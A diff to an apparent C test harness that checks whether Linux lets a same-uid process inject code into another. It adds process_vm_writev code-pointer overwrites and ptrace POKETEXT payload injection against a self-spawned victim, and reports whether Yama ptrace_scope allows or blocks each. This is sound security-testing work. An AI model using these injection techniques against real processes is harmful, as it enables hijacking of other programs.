@@ -1,5 +1,6 @@
-/* Cross-process code injection through /proc/PID/mem, run to its effect.
+/* Cross-process code injection, run to its effect.
  *
+ * Through /proc/PID/mem:
  *   attack inject VICTIM    a same-uid process that is not a tracer opens
  *                           the victim's mem file and writes the payload
  *                           over the victim's code
@@ -17,10 +18,29 @@
  *                           the parent then calls that code.  `ptrace`
  *                           levels allow it by design: only `never` stops
  *                           it.  The parent is the victim here.
+ * Without it, by a same-uid process that is neither the victim's tracer
+ * nor its ancestor (the victim's sibling: Yama's ptrace_scope 1 lets an
+ * ancestor attach, and would let these two through from one):
+ *   attack pvwritev VICTIM  process_vm_writev(), which writes only what
+ *                           is writable (no FOLL_FORCE): it points the
+ *                           victim's code pointer in .data at via_data()
+ *                           and the one on its stack at via_stack(),
+ *                           code the victim already has, which runs
+ *                           win() (writes the marker, exits 42) once
+ *                           control has come through both: a model of
+ *                           code-reuse injection, since the writable
+ *                           memory holds no code to run.  It first tries
+ *                           the payload over the victim's text and says
+ *                           what the kernel answered (EFAULT: no force).
+ *   attack ptrace VICTIM    PTRACE_SEIZE, PTRACE_INTERRUPT, the payload
+ *                           over the victim's code with PTRACE_POKETEXT
+ *                           (forced, as a tracer's pokes always are),
+ *                           PTRACE_DETACH.
+ * Both name Yama's ptrace_scope in force (or "no Yama") in their verdict.
  *
  * Victim and attackers run as uid/gid 65534.  The last line is
- * "=> allowed ..." when the payload ran (the victim exited 42 and the
- * marker file /tmp/compat-pwned says "pwned"), "=> blocked ..." when the
+ * "=> allowed ..." when the payload (pvwritev: win()) ran (the victim
+ * exited 42 and the marker file /tmp/compat-pwned says "pwned"), "=> blocked ..." when the
  * write was refused and the victim was still running its own code 300 ms
  * later (no marker), else "=> error ...". */
 #include <errno.h>
@@ -49,6 +69,15 @@ extern const unsigned long payload_size;
 
 static char why[256] = "no error seen";
 
+/* What the victim prints on its first line. */
+struct addrs {
+	uintptr_t tick;		/* its code, which tick() runs */
+	uintptr_t hook;		/* a code pointer in its .data */
+	uintptr_t stack;	/* a code pointer on its stack */
+	uintptr_t via_data;	/* for hook: win() once both have been called */
+	uintptr_t via_stack;	/* for the one on the stack */
+};
+
 static void drop_privileges(void)
 {
 	if (getuid() == 0 && (setgroups(0, NULL) || setresgid(NOBODY, NOBODY, NOBODY) ||
@@ -58,11 +87,11 @@ static void drop_privileges(void)
 	}
 }
 
-/* Start the victim with its stdout on a pipe; return its pid, set *addr. */
-static pid_t spawn_victim(const char *path, uintptr_t *addr)
+/* Start the victim with its stdout on a pipe; return its pid, set *a. */
+static pid_t spawn_victim(const char *path, struct addrs *a)
 {
 	int p[2];
-	char line[64];
+	char line[160];
 	FILE *f;
 	pid_t pid;
 
@@ -85,8 +114,10 @@ static pid_t spawn_victim(const char *path, uintptr_t *addr)
 	}
 	close(p[1]);
 	f = fdopen(p[0], "r");
-	if (!f || !fgets(line, sizeof(line), f) || sscanf(line, "%" SCNxPTR, addr) != 1) {
-		fprintf(stderr, "attack: no address from victim\n");
+	if (!f || !fgets(line, sizeof(line), f) ||
+	    sscanf(line, "%" SCNxPTR " %" SCNxPTR " %" SCNxPTR " %" SCNxPTR " %" SCNxPTR,
+		   &a->tick, &a->hook, &a->stack, &a->via_data, &a->via_stack) != 5) {
+		fprintf(stderr, "attack: no addresses from victim\n");
 		exit(2);
 	}
 	fclose(f);
@@ -323,32 +354,209 @@ static int run_forkedtracer(void)
 	return 0;
 }
 
+/* ---- without /proc/PID/mem: process_vm_writev() and ptrace ---- */
+
+/* Yama's ptrace_scope in force, as the verdicts name it. */
+static const char *yama_scope(void)
+{
+	static char s[40];
+	char b[8] = "";
+	int fd = open("/proc/sys/kernel/yama/ptrace_scope", O_RDONLY);
+	ssize_t n;
+
+	if (fd < 0)
+		return "no Yama";
+	n = read(fd, b, sizeof(b) - 1);
+	close(fd);
+	b[n > 0 ? n : 0] = '\0';
+	b[strcspn(b, "\n")] = '\0';
+	snprintf(s, sizeof(s), "Yama ptrace_scope=%s", b[0] ? b : "?");
+	return s;
+}
+
+static int pv_write(pid_t pid, uintptr_t addr, const void *buf, size_t len)
+{
+	struct iovec local = { (void *)(uintptr_t)buf, len }, remote = { (void *)addr, len };
+	ssize_t n = process_vm_writev(pid, &local, 1, &remote, 1, 0);
+
+	if (n == (ssize_t)len)
+		return 0;
+	snprintf(why, sizeof(why), "process_vm_writev: %s", n < 0 ? strerror(errno) : "short");
+	return -1;
+}
+
+/*
+ * The payload over the victim's text (refused: no FOLL_FORCE), then its
+ * two code pointers: 0 both written, -1 neither, 1 only the first.
+ */
+static int pvwritev(pid_t victim, const struct addrs *a)
+{
+	char text[sizeof(why)];
+
+	if (pv_write(victim, a->tick, payload_start, (size_t)payload_size) == 0) {
+		snprintf(why, sizeof(why), "process_vm_writev wrote the payload over its text");
+		return 0;
+	}
+	snprintf(text, sizeof(text), "%s", why);
+	if (pv_write(victim, a->hook, &a->via_data, sizeof(a->via_data)))
+		return -1;
+	if (pv_write(victim, a->stack, &a->via_stack, sizeof(a->via_stack)))
+		return 1;
+	snprintf(why, sizeof(why), "the payload over its text: %.160s",
+		 strchr(text, ':') ? strchr(text, ':') + 2 : text);
+	return 0;
+}
+
+/* PTRACE_SEIZE, stop it, poke the payload over its text, detach. */
+static int poke(pid_t victim, const struct addrs *a)
+{
+	size_t len = (size_t)payload_size;
+	int st, rc = 0;
+
+	if (ptrace(PTRACE_SEIZE, victim, 0, 0)) {
+		snprintf(why, sizeof(why), "PTRACE_SEIZE: %s", strerror(errno));
+		return -1;
+	}
+	if (ptrace(PTRACE_INTERRUPT, victim, 0, 0) || waitpid(victim, &st, __WALL) != victim) {
+		snprintf(why, sizeof(why), "PTRACE_INTERRUPT: %s", strerror(errno));
+		ptrace(PTRACE_DETACH, victim, 0, 0);
+		return -1;
+	}
+	for (size_t off = 0; off < len && !rc; off += sizeof(long)) {
+		size_t k = len - off < sizeof(long) ? len - off : sizeof(long);
+		long word = 0;
+
+		if (k < sizeof(long)) {	/* the last word: keep what follows */
+			errno = 0;
+			word = ptrace(PTRACE_PEEKTEXT, victim, a->tick + off, 0);
+			if (errno) {
+				snprintf(why, sizeof(why), "PTRACE_PEEKTEXT: %s", strerror(errno));
+				rc = -1;
+				break;
+			}
+		}
+		memcpy(&word, payload_start + off, k);
+		if (ptrace(PTRACE_POKETEXT, victim, a->tick + off, word)) {
+			snprintf(why, sizeof(why), "PTRACE_POKETEXT: %s", strerror(errno));
+			rc = -1;
+		}
+	}
+	if (ptrace(PTRACE_DETACH, victim, 0, 0) && !rc) {
+		snprintf(why, sizeof(why), "PTRACE_DETACH: %s", strerror(errno));
+		rc = -1;
+	}
+	if (!rc)
+		snprintf(why, sizeof(why), "payload poked over its text, detached");
+	return rc;
+}
+
+/*
+ * Run the attack in a child of ours, the victim's sibling, so that the
+ * attacker is neither its tracer nor its ancestor; its why[] comes back
+ * over a pipe.  0: it says the writes were done, -1 refused, 1 some were
+ * (pvwritev), 2 it failed otherwise.
+ */
+static int as_sibling(const char *mode, pid_t victim, const struct addrs *a)
+{
+	char said[sizeof(why)] = "";
+	int p[2], st;
+	pid_t pid;
+
+	if (pipe(p)) {
+		perror("attack: pipe");
+		exit(2);
+	}
+	pid = fork();
+	if (pid < 0) {
+		perror("attack: fork");
+		exit(2);
+	}
+	if (pid == 0) {
+		int rc;
+
+		close(p[0]);
+		rc = strcmp(mode, "ptrace") ? pvwritev(victim, a) : poke(victim, a);
+		if (write(p[1], why, strlen(why)) < 0)
+			_exit(1);
+		_exit(rc < 0 ? 3 : rc ? 4 : 0);
+	}
+	close(p[1]);
+	if (read_full(p[0], said, sizeof(said) - 1) <= 0)
+		strcpy(said, "the attacker said nothing");
+	close(p[0]);
+	if (waitpid(pid, &st, 0) != pid) {
+		perror("attack: waitpid");
+		exit(2);
+	}
+	snprintf(why, sizeof(why), "%s", said);
+	if (!WIFEXITED(st))
+		return 2;
+	return WEXITSTATUS(st) == 0 ? 0 : WEXITSTATUS(st) == 3 ? -1 : WEXITSTATUS(st) == 4 ? 1 : 2;
+}
+
+/*
+ * attack pvwritev|ptrace VICTIM, by a sibling of the victim.  Judged as
+ * the attacks through the mem file are: the victim exited 42 with the
+ * marker written, or the writes were refused and it still runs its own
+ * code 300 ms later (killed by our SIGTERM), no marker.
+ */
+static int sibling_attack(const char *mode, const char *path)
+{
+	const struct timespec pause = { 0, 300 * 1000 * 1000 };
+	struct addrs a;
+	pid_t victim;
+	int rc, st;
+
+	victim = spawn_victim(path, &a);
+	drop_privileges();
+	rc = as_sibling(mode, victim, &a);
+	if (rc) {
+		nanosleep(&pause, NULL);
+		kill(victim, SIGTERM);
+	}
+	if (waitpid(victim, &st, 0) != victim) {
+		perror("attack: waitpid");
+		return 2;
+	}
+	if (WIFEXITED(st) && WEXITSTATUS(st) == 42 && marker_says_pwned() &&
+	    (!strcmp(mode, "ptrace") || !strncmp(why, "process_vm_writev wrote", 23)))
+		printf("=> allowed: the payload ran in the victim: %s (%s)\n", why, yama_scope());
+	else if (WIFEXITED(st) && WEXITSTATUS(st) == 42 && marker_says_pwned())
+		printf("=> allowed: win() ran once control came through the code pointer in .data and the one on the stack; %s (%s)\n",
+		       why, yama_scope());
+	else if (WIFSIGNALED(st) && WTERMSIG(st) == SIGTERM && rc < 0 && !marker_says_pwned())
+		printf("=> blocked: %s (%s)\n", why, yama_scope());
+	else
+		printf("=> error: victim status %#x, %s%s (%s)\n", st, rc == 1 ? "one pointer written, then " : "",
+		       why, yama_scope());
+	return 0;
+}
+
 int main(int argc, char **argv)
 {
-	uintptr_t addr;
+	struct addrs a;
 	pid_t victim;
 	int st, rc;
 
-	if (argc == 2 && !strcmp(argv[1], "forkedtracer")) {
-		if (unlink(MARKER) && errno != ENOENT) {
-			perror("attack: " MARKER);
-			return 2;
-		}
-		return run_forkedtracer();
-	}
-	if (argc != 3 || (strcmp(argv[1], "inject") && strcmp(argv[1], "handoff"))) {
-		fprintf(stderr, "usage: attack inject|handoff VICTIM | attack forkedtracer\n");
+	if (!(argc == 2 && !strcmp(argv[1], "forkedtracer")) &&
+	    !(argc == 3 && (!strcmp(argv[1], "inject") || !strcmp(argv[1], "handoff") ||
+			    !strcmp(argv[1], "pvwritev") || !strcmp(argv[1], "ptrace")))) {
+		fprintf(stderr, "usage: attack inject|handoff|pvwritev|ptrace VICTIM | attack forkedtracer\n");
 		return 2;
 	}
 	if (unlink(MARKER) && errno != ENOENT) {
 		perror("attack: " MARKER);
 		return 2;
 	}
-	victim = spawn_victim(argv[2], &addr);
+	if (argc == 2)
+		return run_forkedtracer();
+	if (!strcmp(argv[1], "pvwritev") || !strcmp(argv[1], "ptrace"))
+		return sibling_attack(argv[1], argv[2]);
+	victim = spawn_victim(argv[2], &a);
 	drop_privileges();
-	rc = strcmp(argv[1], "inject") ? handoff(victim, addr) : inject(victim, addr);
+	rc = strcmp(argv[1], "inject") ? handoff(victim, a.tick) : inject(victim, a.tick);
 	if (rc == 0) {
-		snprintf(why, sizeof(why), "payload written at %#" PRIxPTR, addr);
+		snprintf(why, sizeof(why), "payload written at %#" PRIxPTR, a.tick);
 	} else {
 		/* Refused: let the victim tick a while longer, then stop it.  It
 		 * must still be alive (killed by our SIGTERM), with no marker. */
